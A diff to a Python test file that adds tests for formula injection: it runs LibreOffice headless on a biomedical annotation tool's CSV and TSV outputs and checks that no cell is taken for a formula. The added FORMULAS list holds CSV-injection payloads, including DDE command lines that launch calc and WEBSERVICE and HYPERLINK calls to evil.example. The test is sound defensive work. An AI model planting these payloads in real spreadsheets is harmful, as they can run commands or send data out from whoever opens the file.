@@ -2,6 +2,8 @@
 
 import csv
 import io
+import json
+import re
 import shutil
 import subprocess
 from dataclasses import replace
@@ -9,9 +11,15 @@ from dataclasses import replace
 import pytest
 from openpyxl import load_workbook
 
+from annotator.batch import RunOptions, run
+from annotator.curation.applying import ApplyOptions, apply
 from annotator.curation.review_file import read_review
 from annotator.curation.workbook import write_workbook
+from annotator.lexicon import open_lexicon
 from annotator.review import COLUMNS, ReviewRow, csv_line
+from annotator.run_diff import diff_runs
+from annotator.run_folder import RunFolder
+from tests.review_tables import read_rows, write_rows
 
 #: What spreadsheets are known to run or to rewrite.
 CELLS = (
@@ -89,6 +97,7 @@ def libreoffice(tmp_path_factory):
         text = (out / f"{path.stem}.csv").read_text(encoding="utf-8-sig")
         return list(csv.DictReader(io.StringIO(text, newline="")))
 
+    open_and_save.words = [program, f"-env:UserInstallation=file://{profile}", "--headless"]
     return open_and_save
 
 
@@ -107,9 +116,103 @@ def test_libreoffice_runs_no_formula_of_the_csv(tmp_path, libreoffice):
     shown = libreoffice(path, tmp_path / "out", "CSV:44,34,76,1,,1033,false,true,false,false")
     for row, before in zip(shown, rows, strict=True):
         if before.mention.strip().startswith(("=", "+", "-", "@", "'", "＝")):
-            assert row["mention"].lstrip("'") == before.mention.lstrip("'")
+            assert row["mention"].replace("'", "") == before.mention.replace("'", "")
         assert row["mention"] not in ("2", "6", "#NAME?", "Err:508")
     greek = [row["mention"] for row in shown if "β" in row["mention"] or "γ" in row["mention"]]
     assert greek == ["β-catenin", "IFN-γ ≥ 5 µM"]
     genes = {row["mention"] for row in shown}
     assert {"SEPT2", "MARCH1", "DEC1", "Oct4"} <= genes
+
+
+#: What a program may run that opens a table, 30 ways to write it.
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", '"=1+1', "' =1+1",
+    "\u00a0=1+1", "\u2003=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/";"x")', '=WEBSERVICE("http://evil.example/")', "=1+1;2",
+    "x;=1+1", "x; =1+1", 'x;"=1+1', "x\t=1+1", "x\n=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(1);2)", '";=1+1;"', "==1+1",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def formulas_in(tmp_path_factory, libreoffice):
+    """Return a function that opens a table in LibreOffice and returns what it took for formulas."""
+
+    def found(path, separator=","):
+        out = tmp_path_factory.mktemp("out")
+        words = [*libreoffice.words, "--convert-to", "fods", "--outdir", str(out)]
+        # Formulas are evaluated, as a spreadsheet does that is asked nothing.
+        words.append(
+            f"--infilter=CSV:{ord(separator)},34,76,1,,1033,false,true,false,false,false,0,true"
+        )
+        subprocess.run([*words, str(path)], check=True, capture_output=True, timeout=180)
+        text = (out / f"{path.stem}.fods").read_text(encoding="utf-8")
+        return re.findall(r'table:formula="([^"]*)"', text)
+
+    return found
+
+
+def hostile_run(folder):
+    """Annotate records that hold formulas wherever a record can hold a text."""
+    lines = []
+    for number, formula in enumerate(FORMULAS):
+        row = {
+            "word": formula,
+            "symbol": formula,
+            "hgnc_symbol": formula,
+            "source": formula,
+            "entrez": "51144",
+        }
+        chemical = {"word": formula, "source": formula, "identifier": formula}
+        value = {
+            "figid": f"{formula}{number}", "pmcid": formula, "caption": f"{formula} BDNF {formula} ketamine",
+            "organisms": [formula], "genes": [row, row | {"word": "KAR"}], "chemicals": [chemical],
+            "papertitle": formula, "figtitle": formula, "year": formula, "figlink": formula,
+        }  # fmt: skip
+        lines.append(json.dumps(value))
+    table = folder / "captions.jsonl"
+    table.write_text("\n".join(lines), encoding="utf-8")
+    out = folder / "run"
+    run(RunOptions((table,), out, "starter", workers=1))
+    return out
+
+
+def test_no_formula_of_a_record_or_a_curator_is_run(tmp_path, formulas_in):
+    out = hostile_run(tmp_path)
+    rows = read_rows(out / "review.csv")
+    assert len(rows) > len(FORMULAS)
+    for who in ("=A()", "@B"):
+        mine = [
+            row | {"decision": "accept" if who == "@B" else "reject", "curator": who}
+            for row in rows
+        ]
+        for number, row in enumerate(mine):
+            row["comment"] = FORMULAS[number % len(FORMULAS)]
+        apply(ApplyOptions(out, (write_rows(tmp_path / "r.csv", mine),)), open_lexicon("starter"))
+    assert (out / "conflicts.tsv").stat().st_size > 1000
+    other = tmp_path / "other"
+    run(
+        RunOptions(
+            (tmp_path / "captions.jsonl",),
+            other,
+            "starter",
+            workers=1,
+            limit=5,
+            decisions=out / "decisions.tsv",
+        )
+    )
+    diff_runs(RunFolder.open(out), RunFolder.open(other), tmp_path / "diff.tsv")
+    for path, separators in (
+        (out / "review.csv", ",;"), (other / "review.csv", ",;"), (out / "conflicts.tsv", "\t;"),
+        (out / "decisions.tsv", "\t;"), (tmp_path / "diff.tsv", "\t;"),
+    ):  # fmt: skip
+        for separator in separators:
+            assert formulas_in(path, separator) == [], (path.name, separator)
+
+
+def test_the_check_sees_a_formula(tmp_path, formulas_in):
+    path = tmp_path / "plain.csv"
+    path.write_text("".join(f'"{cell}",x\n' for cell in ("=1+1", "+1+1", "text")))
+    assert formulas_in(path) == ["of:=1+1"]  # LibreOffice takes + for a text
+    path.write_text('a,"b;=1+1;",c\n')
+    assert formulas_in(path, ";") == ["of:=1+1"]
